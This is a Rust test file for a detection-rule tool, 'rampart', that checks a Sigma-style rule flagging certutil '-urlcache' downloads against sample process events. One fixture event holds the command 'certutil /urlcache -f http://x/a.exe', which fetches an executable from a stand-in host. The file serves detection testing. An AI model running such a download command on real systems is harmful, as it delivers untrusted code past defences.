@@ -1,0 +1,111 @@
+//! `rampart rules check` and `rampart rules test`, run as a user would.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::process::Command;
+
+const RULE: &str = "title: Certutil download
+id: 3c0a1f2e-0000-4000-8000-000000000001
+logsource:
+  product: windows
+  category: process_creation
+detection:
+  selection:
+    Image|endswith: '\\certutil.exe'
+    CommandLine|contains|windash: ' -urlcache '
+  condition: selection
+level: high
+";
+
+fn rampart(args: &[&str]) -> std::process::Output {
+    Command::new(env!("CARGO_BIN_EXE_rampart"))
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn rules_test_prints_matches_and_a_json_summary() {
+    let dir = tempfile::tempdir().unwrap();
+    let rule = dir.path().join("rule.yml");
+    let events = dir.path().join("events.ndjson");
+    std::fs::write(&rule, RULE).unwrap();
+    std::fs::write(
+        &events,
+        concat!(
+            r#"{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil /urlcache -f http://x/a.exe"}"#, "\n",
+            r#"{"Image":"C:\\Windows\\System32\\notepad.exe","CommandLine":"notepad"}"#, "\n",
+            "\n",
+            r#"{"Image":"C:\\Windows\\System32\\CERTUTIL.EXE","CommandLine":"certutil -urlcache -split"}"#, "\n",
+        ),
+    )
+    .unwrap();
+    let out = rampart(&[
+        "rules",
+        "test",
+        rule.to_str().unwrap(),
+        events.to_str().unwrap(),
+        "--json",
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(report["matched"], 2);
+    assert_eq!(report["total"], 3);
+    assert_eq!(report["matches"][0]["line"], 1);
+    assert_eq!(report["matches"][1]["line"], 4);
+    assert_eq!(
+        report["matches"][0]["rules"][0]["title"],
+        "Certutil download"
+    );
+
+    let out = rampart(&[
+        "rules",
+        "test",
+        rule.to_str().unwrap(),
+        events.to_str().unwrap(),
+    ]);
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert_eq!(text.lines().count(), 3, "{text}");
+    assert!(text.ends_with("matched 2 of 3 events\n"), "{text}");
+}
+
+#[test]
+fn rules_test_names_the_bad_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let rule = dir.path().join("rule.yml");
+    let events = dir.path().join("events.ndjson");
+    std::fs::write(&rule, RULE).unwrap();
+    std::fs::write(&events, "{\"a\":1}\n{not json\n").unwrap();
+    let out = rampart(&[
+        "rules",
+        "test",
+        rule.to_str().unwrap(),
+        events.to_str().unwrap(),
+    ]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("line 2"));
+}
+
+#[test]
+fn rules_check_reports_each_rule_that_cannot_load() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("good.yml"), RULE).unwrap();
+    std::fs::write(
+        dir.path().join("bad.yml"),
+        "title: Bad\nid: bad-rule-1\ndetection:\n  sel:\n    Image|sorcery: x\n  condition: sel\n",
+    )
+    .unwrap();
+    let out = rampart(&["rules", "check", dir.path().to_str().unwrap()]);
+    assert!(!out.status.success());
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.contains("bad.yml: rule bad-rule-1:"), "{text}");
+    assert!(text.contains("sorcery"), "{text}");
+    assert!(text.contains("1 rules loaded, 1 failed"), "{text}");
+
+    std::fs::remove_file(dir.path().join("bad.yml")).unwrap();
+    let out = rampart(&["rules", "check", dir.path().to_str().unwrap()]);
+    assert!(out.status.success());
+}
